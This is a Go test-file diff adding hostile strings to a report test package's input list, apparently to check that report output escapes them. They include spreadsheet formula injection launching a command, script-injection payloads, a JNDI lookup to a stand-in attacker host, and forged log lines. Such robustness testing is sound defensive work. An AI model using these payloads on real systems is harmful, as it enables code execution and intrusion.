@@ -4,6 +4,7 @@ package reporttest
 
 import (
 	"fmt"
+	"strings"
 	"time"
 
 	"wxaudit/pkg/check"
@@ -67,6 +68,18 @@ var HostileTexts = []string{
 	"</script><b>&amp;",
 	"z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c algo",
 	string(make([]byte, 4096)),
+	"=cmd|'/C calc'!A0",
+	"+1+cmd|'/C calc'!A0",
+	"-2+3",
+	"@SUM(1+1)",
+	"\t=1+1",
+	"\"quote\",\"comma;semicolon",
+	"<img src=x onerror=alert(1)> javascript:alert(1)",
+	"]]><!--${jndi:ldap://evil.example/a}{{constructor}}",
+	"CEF:0|x|y|1|a=b|c\\|outcome=success externalId=1",
+	"<13>1 2026-03-01T02:00:00Z evil.example wxaudit - - - forged",
+	"| table | pipe `tick` [link](javascript:alert(1)) *star* ~~strike~~ # head",
+	strings.Repeat("A megabyte of name. ", 1<<20/20),
 }
 
 // Big has n failures of one check, each with a resource and evidence of its own.
